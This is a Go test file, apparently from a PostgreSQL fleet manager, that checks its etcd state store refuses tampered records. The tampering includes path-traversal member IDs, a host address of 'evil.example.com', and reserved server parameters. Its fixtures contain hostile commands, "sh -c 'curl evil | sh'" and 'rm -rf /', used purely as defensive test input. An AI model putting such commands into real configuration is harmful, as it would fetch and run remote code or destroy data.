package store_test

import (
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pgfleet/pgfleet/internal/fleet"
	"github.com/pgfleet/pgfleet/internal/store"
)

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestInvalidRecordsAreNotRead writes records past the API, straight into
// etcd, as someone holding the store's credentials could: the store must
// not hand any of them to an agent as if it were good, and its error must
// say which key holds what.
func TestInvalidRecordsAreNotRead(t *testing.T) {
	s := openStore(t)
	ctx := context.Background()
	prefix := "/test/" + t.Name() + "/"
	put := func(key, value string) {
		t.Helper()
		if _, err := s.Client().Put(ctx, prefix+key, value); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.CreateCluster(ctx, spec("good", 6000), fleet.Secrets{SuperuserPassword: "pw"}, members("good", 6000), ev("good", "x")); err != nil {
		t.Fatal(err)
	}

	evilSpec := func(name string) fleet.ClusterSpec { return spec(name, 6010) }
	evilMember := func(cluster, id string) fleet.MemberSpec {
		return fleet.MemberSpec{ID: id, Cluster: cluster, Host: "h1", Region: "iad", Role: fleet.RoleStandby, Port: 6010}
	}
	withParam := evilSpec("evil-param")
	withParam.Params = map[string]string{"work_mem": "8MB", "archive_cleanup_command": "sh -c 'curl evil | sh'"}
	renamed := evilSpec("evil-name")
	renamed.Name = "good"
	tests := []struct {
		cluster string
		key     string // below the cluster's prefix
		value   string
		want    string // in the error
	}{
		{"evil-key", "members/../x/spec", mustJSON(t, evilMember("evil-key", "../x")), `key: member id "../x" is not valid: the members of cluster evil-key are evil-key-1 to evil-key-25`},
		{"evil-id", "members/evil-id-2/spec", mustJSON(t, evilMember("evil-id", "../x")), `member id "../x" is not valid`},
		{"evil-dot", "members/../spec", mustJSON(t, evilMember("evil-dot", "..")), `key: member id ".." is not valid`},
		{"evil-slash", "members/a/b/status", `{"id":"a/b"}`, `key: member id "a/b" is not valid`},
		{"evil-other", "members/evil-other-2/spec", mustJSON(t, evilMember("other", "evil-other-2")), `names cluster "other", not evil-other`},
		{"evil-param", "spec", mustJSON(t, withParam), "parameter archive_cleanup_command is reserved by pgfleet and cannot be set: it would make the server run a shell command"},
		{"evil-name", "spec", mustJSON(t, renamed), `the spec names cluster "good"`},
		{"evil-json", "spec", `{"name":`, "unexpected end of JSON input"},
		{"evil-leader", "leader", "../x", `leader: member id "../x" is not valid`},
		{"evil-sync", "sync", `{"primary":"evil-sync-1","members":["evil-sync-2","../../x"]}`, `sync state: member id "../../x" is not valid`},
		{"evil-switch", "switchover", `{"from":"evil-switch-1","to":"."}`, `switchover: to: member id "." is not valid`},
		{"evil-status", "members/evil-status-1/status", `{"id":"evil-status-1","host":"../../root"}`, `status: member evil-status-1: host name "../../root" is not valid`},
		{"evil-cand", "candidates/evil-cand-9", `{"member":"evil-cand-1"}`, `candidacy of "evil-cand-1" under the key of "evil-cand-9"`},
		{"evil-port", "members/evil-port-2/spec", mustJSON(t, fleet.MemberSpec{ID: "evil-port-2", Cluster: "evil-port", Host: "h1", Region: "iad", Role: fleet.RoleStandby, Port: 2379}), "port 2379 is not the cluster's port 6010"},
	}
	for _, tt := range tests {
		if tt.key != "spec" {
			put("clusters/"+tt.cluster+"/spec", mustJSON(t, evilSpec(tt.cluster)))
			put("clusters/"+tt.cluster+"/members/"+tt.cluster+"-1/spec", mustJSON(t, evilMember(tt.cluster, tt.cluster+"-1")))
		}
		put("clusters/"+tt.cluster+"/"+tt.key, tt.value)
	}

	for _, tt := range tests {
		key := prefix + "clusters/" + tt.cluster + "/" + tt.key
		c, err := s.Cluster(ctx, tt.cluster)
		switch {
		case err == nil:
			t.Errorf("Cluster(%s) with %s = %d members, nil error; want an invalid record error", tt.cluster, key, len(c.Members))
			continue
		case !errors.Is(err, store.ErrInvalid):
			t.Errorf("Cluster(%s) = %v; want errors.Is(err, ErrInvalid)", tt.cluster, err)
		case !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), `"`+key+`"`):
			t.Errorf("Cluster(%s) = %q; want it to name %q and say %q", tt.cluster, err, key, tt.want)
		}
		var ire *store.InvalidRecordError
		if !errors.As(err, &ire) || ire.Key != key || ire.Cluster != tt.cluster {
			t.Errorf("Cluster(%s) = %#v; want an InvalidRecordError for %s of cluster %s", tt.cluster, ire, key, tt.cluster)
		}
		if c.Spec.Name != "" || len(c.Members) != 0 || c.Leader != "" || c.Sync != nil {
			t.Errorf("Cluster(%s) returned %+v with its error; want nothing of it", tt.cluster, c)
		}
	}
	t.Logf("for example: %v", func() error { _, err := s.Cluster(ctx, "evil-key"); return err }())

	// Clusters serves the valid cluster and names every invalid one.
	cs, err := s.Clusters(ctx)
	var names []string
	for _, c := range cs {
		names = append(names, c.Spec.Name)
		for _, m := range c.Members {
			if m.ID != c.Spec.Name+"-1" {
				t.Errorf("Clusters() returned member %q of %s", m.ID, c.Spec.Name)
			}
		}
	}
	if !slices.Equal(names, []string{"good"}) {
		t.Errorf("Clusters() = %v; want only good", names)
	}
	if !errors.Is(err, store.ErrInvalid) {
		t.Fatalf("Clusters() error = %v; want errors.Is(err, ErrInvalid)", err)
	}
	bad := store.InvalidRecords(err)
	var badClusters []string
	for _, r := range bad {
		badClusters = append(badClusters, r.Cluster)
	}
	slices.Sort(badClusters)
	var want []string
	for _, tt := range tests {
		want = append(want, tt.cluster)
	}
	slices.Sort(want)
	if !slices.Equal(badClusters, want) {
		t.Errorf("InvalidRecords(Clusters()) name clusters %v; want %v", badClusters, want)
	}

	// Leader reads the key alone, and checks it too.
	if id, err := s.Leader(ctx, "evil-leader"); id != "" || !errors.Is(err, store.ErrInvalid) {
		t.Errorf(`Leader(evil-leader) = %q, %v; want "" and an invalid record error`, id, err)
	}
}

func TestInvalidHostsAreNotRead(t *testing.T) {
	s := openStore(t)
	ctx := context.Background()
	prefix := "/test/" + t.Name() + "/"
	lease, err := s.Grant(ctx, 10*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer lease.Revoke(ctx)
	if err := s.RegisterHost(ctx, fleet.Host{Name: "iad-1", Region: "iad", Addr: "10.0.0.1"}, lease); err != nil {
		t.Fatal(err)
	}
	for key, v := range map[string]fleet.Host{
		"iad-2":    {Name: "../../etc", Region: "iad", Addr: "10.0.0.2"},
		"iad-3":    {Name: "iad-3", Region: "iad", Addr: "evil.example.com"},
		"../iad-4": {Name: "../iad-4", Region: "iad", Addr: "10.0.0.4"},
	} {
		if _, err := s.Client().Put(ctx, prefix+"hosts/"+key, mustJSON(t, v)); err != nil {
			t.Fatal(err)
		}
	}
	hosts, err := s.Hosts(ctx)
	if len(hosts) != 1 || hosts[0].Name != "iad-1" {
		t.Errorf("Hosts() = %+v; want iad-1 alone", hosts)
	}
	if bad := store.InvalidRecords(err); !errors.Is(err, store.ErrInvalid) || len(bad) != 3 {
		t.Errorf("Hosts() error = %v; want three invalid records", err)
	}
	for _, want := range []string{`"` + prefix + `hosts/iad-2" in the state store: host name "../../etc" is not valid`, `address "evil.example.com" is not an IP address`} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Hosts() error = %v; want it to say %q", err, want)
		}
	}
	if h, err := s.Host(ctx, "iad-2"); !errors.Is(err, store.ErrInvalid) || h.Name != "" {
		t.Errorf("Host(iad-2) = %+v, %v; want an invalid record error and no host", h, err)
	}
	if h, err := s.Host(ctx, "iad-1"); err != nil || h.Addr != "10.0.0.1" {
		t.Errorf("Host(iad-1) = %+v, %v; want its record", h, err)
	}
}

// TestNothingInvalidIsWritten: the store refuses to write what it would
// refuse to read.
func TestNothingInvalidIsWritten(t *testing.T) {
	s := openStore(t)
	ctx := context.Background()
	ms := members("c", 6000)
	ms[0].ID = "../x"
	if err := s.CreateCluster(ctx, spec("c", 6000), fleet.Secrets{}, ms, ev("c", "x")); err == nil || !strings.Contains(err.Error(), `member id "../x" is not valid`) {
		t.Fatalf("CreateCluster(member ../x) = %v; want a refusal", err)
	}
	sp := spec("c", 6000)
	sp.Params = map[string]string{"recovery_end_command": "rm -rf /"}
	if err := s.CreateCluster(ctx, sp, fleet.Secrets{}, members("c", 6000), ev("c", "x")); err == nil || !strings.Contains(err.Error(), "recovery_end_command is reserved") {
		t.Fatalf("CreateCluster(recovery_end_command) = %v; want a refusal", err)
	}
	if _, err := s.Cluster(ctx, "c"); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("Cluster(c) after refused creates = %v; want ErrNotFound", err)
	}
	if err := s.CreateCluster(ctx, spec("c", 6000), fleet.Secrets{}, members("c", 6000), ev("c", "x")); err != nil {
		t.Fatal(err)
	}
	err := s.UpdateSpec(ctx, "c", "set parameters", func(spec *fleet.ClusterSpec) error {
		spec.Params = map[string]string{"fsync": "off"}
		return nil
	})
	if err == nil || !strings.Contains(err.Error(), "set parameters of c: parameter fsync is reserved") {
		t.Fatalf("UpdateSpec(fsync off) = %v; want a refusal", err)
	}
	if c, err := s.Cluster(ctx, "c"); err != nil || len(c.Spec.Params) != 0 {
		t.Fatalf("Cluster(c) after a refused update = %+v, %v; want it unchanged", c.Spec, err)
	}
}

// TestInvalidClusterCanBeDeleted checks the way out of an invalid record:
// a cluster whose stored spec sets a reserved parameter (as an older
// pgfleet allowed) is destroyed like any other, port and tombstone included.
func TestInvalidClusterCanBeDeleted(t *testing.T) {
	s := openStore(t)
	ctx := context.Background()
	sp := spec("old", 6000)
	if err := s.CreateCluster(ctx, sp, fleet.Secrets{SuperuserPassword: "pw"}, members("old", 6000), ev("old", "x")); err != nil {
		t.Fatal(err)
	}
	sp.Params = map[string]string{"shared_preload_libraries": "pg_stat_statements"}
	if _, err := s.Client().Put(ctx, "/test/"+t.Name()+"/clusters/old/spec", mustJSON(t, sp)); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Cluster(ctx, "old"); !errors.Is(err, store.ErrInvalid) {
		t.Fatalf("Cluster(old) = %v, want ErrInvalid", err)
	}
	if err := s.DeleteCluster(ctx, "old"); err != nil {
		t.Fatalf("DeleteCluster(old) with a reserved parameter in its spec: %v", err)
	}
	if _, err := s.Cluster(ctx, "old"); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("Cluster(old) after the delete = %v, want ErrNotFound", err)
	}
	if ports, err := s.UsedPorts(ctx); err != nil || slices.Contains(ports, 6000) {
		t.Errorf("UsedPorts = %v, %v; want 6000 free", ports, err)
	}
	if gone, err := s.Tombstoned(ctx, "old", sp.Created); !gone || err != nil {
		t.Errorf("Tombstoned(old) = %v, %v; want true: its members' data goes", gone, err)
	}
}
